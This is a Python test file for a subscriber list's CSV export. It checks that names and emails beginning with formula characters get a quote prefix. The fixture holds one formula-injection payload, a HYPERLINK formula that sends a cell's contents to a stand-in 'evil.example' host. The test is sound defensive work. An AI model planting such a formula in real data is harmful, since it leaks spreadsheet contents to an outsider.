"""CSV export: the import format, cells a spreadsheet would run as formulas neutralised."""

from __future__ import annotations

import csv
import io

from sqlalchemy import Engine
from sqlmodel import Session

from subscribers.exports import write_csv
from subscribers.models import MailingList
from subscribers.people import Person, subscribe


def test_export_neutralises_formulas(engine: Engine, session: Session, daily: MailingList) -> None:
    # Scenario (item 17): a subscriber named `=HYPERLINK(...)` ran as a formula when the
    # admin opened the export in a spreadsheet.
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    subscribe(session, Person("-dash@example.org", "Asia/Riyadh", name=evil), daily)
    subscribe(session, Person("ok@example.org", "Asia/Riyadh", name="@ali"), daily)
    session.commit()
    out = io.StringIO()
    assert write_csv(out, engine, daily) == 2
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert [(r["email"], r["name"]) for r in rows] == [
        ("'-dash@example.org", "'" + evil),
        ("ok@example.org", "'@ali"),
    ]
